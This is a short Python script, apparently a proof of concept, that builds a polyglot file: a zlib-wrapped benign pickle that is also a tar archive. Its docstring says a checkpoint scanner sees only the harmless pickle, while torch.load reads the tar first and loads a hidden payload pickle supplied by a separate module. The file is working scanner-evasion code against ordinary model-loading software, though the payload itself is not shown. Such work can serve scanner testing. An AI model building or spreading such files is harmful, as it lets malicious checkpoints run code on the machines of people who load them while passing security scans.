#!/usr/bin/python3
"""A zlib stream (one stored deflate block) of a benign pickle (one bytes object) that is also a tar:
the stored block's bytes are copied verbatim, so tar header 0's fields, header 1 'storages' and the
payload pickle sit inside the pickled bytes object at the file offsets tarfile reads them from.
ckptguard sniffs the zlib wrapper before tar (Opener::Open returns after OpenWrapped) and scans
the decompressed pickle; torch.load tries tarfile on any non-zip file first.
Usage: tar_in_zlib.py OUT MARKER"""
import sys, struct, zlib
from tarblocks import header as tar_header, payload
def build(marker):
    pay = payload(marker)
    m1 = tar_header(b'storages', len(pay)) + pay
    m1 += b'\0' * ((-len(m1)) % 512) + b'\0' * 1024
    # file: 78 01 | 01 LEN NLEN | pickle = 80 02 'B' len4 <bytes...> '.' | adler32
    pre = 2 + 5 + 3 + 4                       # bytes before the BINBYTES content
    blen = 512 - pre + len(m1)
    pk = b'\x80\x02B' + struct.pack('<I', blen)
    content = bytearray(b'\0' * blen)
    pickle_bytes = pk + bytes(content) + b'.'
    LEN = len(pickle_bytes)
    out = bytearray(b'\x78\x01' + b'\x01' + struct.pack('<HH', LEN, LEN ^ 0xffff) + pickle_bytes)
    # tar header 0 = out[0:512] (its name field is the zlib/deflate/pickle start); fields in the bytes object
    for off, f in [(100, b'0000644\0'), (108, b'0000000\0'), (116, b'0000000\0'), (124, b'00000000000\0'),
                   (136, b'00000000000\0'), (156, b'0')]:
        out[off:off + len(f)] = f
    out[148:156] = b' ' * 8
    out[148:156] = b'%06o\0 ' % sum(out[:512])
    out[512:512 + len(m1)] = m1
    pickled = bytes(out[7:7 + LEN])
    return bytes(out) + struct.pack('>I', zlib.adler32(pickled))
if __name__ == '__main__':
    open(sys.argv[1], 'wb').write(build(sys.argv[2]))
